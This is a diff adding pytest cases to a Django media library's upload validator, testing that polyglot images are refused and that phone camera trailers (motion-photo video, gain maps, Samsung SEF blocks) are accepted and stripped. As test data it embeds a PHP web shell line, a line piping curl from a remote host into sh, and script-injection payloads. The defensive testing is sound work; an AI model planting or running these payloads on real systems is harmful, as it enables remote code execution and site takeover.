@@ -3,6 +3,7 @@ leaves no file and no row; what is stored is upright and carries no metadata."""
 
 import hashlib
 import io
+import random
 
 import pytest
 from django.core.exceptions import ValidationError
@@ -63,6 +64,64 @@ def jpeg_with_comment(comment: bytes) -> bytes:
     return buffer.getvalue()
 
 
+def box(kind: bytes, body: bytes) -> bytes:
+    """An ISO-BMFF box (MP4, AVIF)."""
+    return (8 + len(body)).to_bytes(4, "big") + kind + body
+
+
+def video_data(size: int = 200_000, *, seed: int = 1) -> bytes:
+    """Bytes that look like compressed video: random, so short markers such as
+    "<svg " or a ZIP signature turn up in them now and then, as here."""
+    noise = random.Random(seed).randbytes(size)  # noqa: S311 (test data)
+    middle = size // 2
+    return noise[:middle] + b"<svg PK\x05\x06" + noise[middle:]
+
+
+def mp4(*, moov: bytes = b"", mdat: bytes | None = None) -> bytes:
+    """The short MP4 a phone appends to a motion photo."""
+    return (
+        box(b"ftyp", b"mp42\x00\x00\x00\x00isommp42")
+        + box(b"moov", box(b"mvhd", b"\x00" * 100) + moov)
+        + box(b"mdat", video_data() if mdat is None else mdat)
+    )
+
+
+def samsung_trailer(*blocks: tuple[int, bytes, bytes]) -> bytes:
+    """Samsung's SEF trailer: (type, name, data) blocks, then their directory."""
+    body, entries = b"", []
+    for kind, name, data in blocks:
+        block = b"\x00\x00" + kind.to_bytes(2, "little")
+        block += len(name).to_bytes(4, "little") + name + data
+        entries.append((kind, len(body), len(block)))
+        body += block
+    directory = b"SEFH" + (106).to_bytes(4, "little")
+    directory += len(blocks).to_bytes(4, "little")
+    for kind, position, size in entries:
+        directory += b"\x00\x00" + kind.to_bytes(2, "little")
+        directory += (len(body) - position).to_bytes(4, "little")
+        directory += size.to_bytes(4, "little")
+    return body + directory + len(directory).to_bytes(4, "little") + b"SEFT"
+
+
+def photo(size=(120, 80), color=(30, 90, 160)) -> bytes:
+    buffer = io.BytesIO()
+    PILImage.new("RGB", size, color).save(buffer, "JPEG", quality=90)
+    return buffer.getvalue()
+
+
+def ultra_hdr() -> bytes:
+    """A JPEG and its gain map, as an MPF (MPO) file: Android's Ultra HDR and
+    the iPhone's HDR photos are made this way."""
+    buffer = io.BytesIO()
+    PILImage.new("RGB", (120, 80), (30, 90, 160)).save(
+        buffer,
+        "MPO",
+        save_all=True,
+        append_images=[PILImage.new("L", (60, 40), 128).convert("RGB")],
+    )
+    return buffer.getvalue()
+
+
 PNG = image_bytes(120, 80, fmt="PNG")
 JPEG = image_bytes(120, 80, fmt="JPEG")
 ZIP = b"PK\x03\x04" + b"\x00" * 26 + b"x.php" + b"PK\x05\x06" + b"\x00" * 18
@@ -106,6 +165,97 @@ REFUSED = {
         "poly.gif",
         "trailing_data",
         "extra data hidden after the end of the picture",
+    ),
+    "polyglot: zip after the end of a jpeg": (
+        photo() + ZIP,
+        "poly.jpg",
+        "trailing_data",
+        "extra data hidden after the end of the picture",
+    ),
+    "polyglot: html after the end of a jpeg": (
+        photo() + b"<html><script>alert(1)</script></html>",
+        "poly.jpg",
+        "trailing_data",
+        "extra data hidden after the end of the picture",
+    ),
+    "polyglot: php after the end of a jpeg": (
+        photo() + b"<?php system($_GET['c']); ?>",
+        "poly.jpg",
+        "trailing_data",
+        "extra data hidden after the end of the picture",
+    ),
+    "polyglot: shell script after the end of a jpeg": (
+        photo() + b"\n#!/bin/sh\ncurl http://example.com/x | sh\n",
+        "poly.jpg",
+        "trailing_data",
+        "extra data hidden after the end of the picture",
+    ),
+    "polyglot: pdf after the end of a jpeg": (
+        photo() + b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF\n",
+        "poly.jpg",
+        "trailing_data",
+        "extra data hidden after the end of the picture",
+    ),
+    "polyglot: zip after a motion photo's video": (
+        photo() + mp4() + ZIP,
+        "poly.jpg",
+        "trailing_data",
+        "extra data hidden after the end of the picture",
+    ),
+    "polyglot: a video cut short": (
+        (photo() + mp4())[:-1000],
+        "poly.jpg",
+        "trailing_data",
+        "extra data hidden after the end of the picture",
+    ),
+    "polyglot: a picture, not a video, in an ftyp box": (
+        photo() + box(b"ftyp", b"avif\x00\x00\x00\x00avifmif1") + box(b"mdat", b"x"),
+        "poly.jpg",
+        "trailing_data",
+        "extra data hidden after the end of the picture",
+    ),
+    "polyglot: a png after the end of a jpeg": (
+        photo() + PNG,
+        "poly.jpg",
+        "trailing_data",
+        "extra data hidden after the end of the picture",
+    ),
+    "polyglot: a video after the end of a png": (
+        PNG + mp4(),
+        "poly.png",
+        "trailing_data",
+        "extra data hidden after the end of the picture",
+    ),
+    "polyglot: malformed samsung trailer": (
+        photo() + b"<html></html>" + (1000).to_bytes(4, "little") + b"SEFT",
+        "poly.jpg",
+        "trailing_data",
+        "extra data hidden after the end of the picture",
+    ),
+    "polyglot: script in a motion photo's video metadata": (
+        photo() + mp4(moov=box(b"udta", b"<script>alert(1)</script>")),
+        "poly.jpg",
+        "hidden_markup",
+        "web page code (“&lt;script”)",
+    ),
+    "polyglot: php in a motion photo's video data": (
+        photo() + mp4(mdat=video_data() + b"<?php system($_GET['c']); ?>"),
+        "poly.jpg",
+        "hidden_markup",
+        "web page code (“&lt;?php”)",
+    ),
+    "polyglot: php in the comment of an appended jpeg": (
+        photo() + jpeg_with_comment(b"<?php system($_GET['c']); ?>"),
+        "poly.jpg",
+        "hidden_markup",
+        "web page code (“&lt;?php”)",
+    ),
+    "polyglot: html in a samsung trailer block": (
+        photo()
+        + samsung_trailer((0x0A01, b"Image_UTC_Data", b"<body onload=alert(1)>")),
+        "poly.jpg",
+        "hidden_markup",
+        "web page code (“&lt;body”)",
     ),
     "polyglot: php in a jpeg comment": (
         jpeg_with_comment(b"<?php system($_GET['c']); ?>"),
@@ -215,6 +365,56 @@ def test_animated_gif_keeps_its_frames():
     image = ImageFactory(file=ContentFile(buffer.getvalue(), name="spin.gif"))
     with image.file.open("rb") as stored, PILImage.open(stored) as picture:
         assert picture.n_frames == 4
+
+
+# --- What cameras append after a JPEG ----------------------------------------------
+
+CAMERA_TRAILERS = {
+    "ultra hdr: a gain map in mpf (pillow reads an mpo)": ultra_hdr(),
+    "google motion photo": photo() + mp4(),
+    "ultra hdr gain map, then a motion photo's video": ultra_hdr() + mp4(),
+    "a gain map appended without mpf": photo() + photo((60, 40), (128, 128, 128)),
+    "padding, then the video": photo() + b"\x00" * 64 + mp4(),
+    "samsung motion photo": photo()
+    + samsung_trailer(
+        (0x0A01, b"Image_UTC_Data", b"1700000000000"),
+        (0x0A30, b"MotionPhoto_Data", mp4()),
+        (0x0B41, b"DualShot_DepthMap_1", photo((30, 20), (9, 9, 9))),
+    ),
+    "samsung trailer after a video": photo()
+    + mp4()
+    + samsung_trailer((0x0A01, b"Image_UTC_Data", b"1700000000000")),
+}
+
+
+@pytest.mark.parametrize("data", CAMERA_TRAILERS.values(), ids=CAMERA_TRAILERS.keys())
+def test_what_cameras_append_is_accepted_and_never_stored(data, media_files):
+    """Phones append video, gain maps and depth maps after the picture's end;
+    the library takes the picture, and keeps none of them: the stored original
+    (served as it is, under MEDIA_URL) is the picture re-encoded alone."""
+    image = ImageFactory(file=ContentFile(data, name="motion.jpg"))
+
+    assert (image.format, image.width, image.height) == ("JPEG", 120, 80)
+    assert image.sha256 == hashlib.sha256(data).hexdigest()
+    stored = image.file.read()
+    assert stored.count(b"\xff\xd8") == 1  # one JPEG, no second stream
+    assert stored.endswith(b"\xff\xd9")
+    for appended in (b"ftyp", b"mdat", b"SEFH", b"SEFT", b"MotionPhoto", b"MPF"):
+        assert appended not in stored
+    with PILImage.open(io.BytesIO(stored)) as picture:
+        assert (picture.format, picture.size) == ("JPEG", (120, 80))
+        assert picture.getpixel((60, 40))[2] > 120  # the photo, not the gain map
+    made = rendition_for(image, spec="full", width=800, fmt="webp")
+    assert b"ftyp" not in made.file.read()
+
+
+def test_a_camera_trailer_in_the_admin_upload(admin_client, media_files):
+    data = CAMERA_TRAILERS["samsung motion photo"]
+    response = admin_client.post(
+        reverse("admin:media_library_image_add"), upload_form(data, "20240601.jpg")
+    )
+    assert response.status_code == 302
+    assert Image.objects.get().file.size < len(data)
 
 
 # --- Orientation and metadata ----------------------------------------------------
